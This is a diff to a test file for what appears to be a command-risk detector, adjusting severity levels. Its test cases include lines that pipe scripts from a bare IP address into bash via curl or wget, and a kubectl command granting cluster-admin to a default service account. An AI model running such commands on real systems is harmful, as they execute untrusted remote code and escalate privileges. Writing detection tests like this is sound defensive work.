@@ -147,8 +147,9 @@ const started = async (command: string) => {
 
 test.each([
   ...SHELLS.map((command) => [command, 'high', 'hands a shell to another host']),
-  ['curl -s http://198.51.100.7/x.sh | bash', 'medium', 'runs what it fetches from a bare address'],
-  ['bash -c "$(wget -qO- http://198.51.100.7/x.sh)"', 'medium', 'runs what it fetches from a bare address'],
+  ['curl -s http://198.51.100.7/x.sh | bash', 'high', 'runs what it fetches from a bare address'],
+  ['bash -c "$(wget -qO- http://198.51.100.7/x.sh)"', 'high', 'runs what it fetches from a bare address'],
+  ['curl -s http://10.2.0.7/setup.sh | bash', 'medium', 'runs what it fetches from a bare address'],
   [
     'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default',
     'low',
